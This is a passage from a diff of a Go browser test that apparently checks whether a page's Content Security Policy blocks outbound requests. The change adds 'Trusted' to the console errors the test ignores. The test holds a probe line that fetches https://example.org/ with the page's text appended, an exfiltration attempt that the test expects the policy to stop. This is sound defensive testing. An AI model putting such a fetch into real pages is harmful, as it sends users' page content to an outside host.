@@ -24,7 +24,7 @@ func TestAVisitAsksForNothingElsewhere(t *testing.T) {
 
 func TestThePolicyLetsNothingOut(t *testing.T) {
 	p := open(t)
-	p.forgive(`Content Security Policy|policy: |Failed to load|Fetch API|net::`)
+	p.forgive(`Content Security Policy|policy: |Trusted|Failed to load|Fetch API|net::`)
 	outcome := eval[map[string]string](p, `(async () => {
 		const tries = {
 			fetch: () => fetch("https://example.org/?" + measuredRunPage.text()),
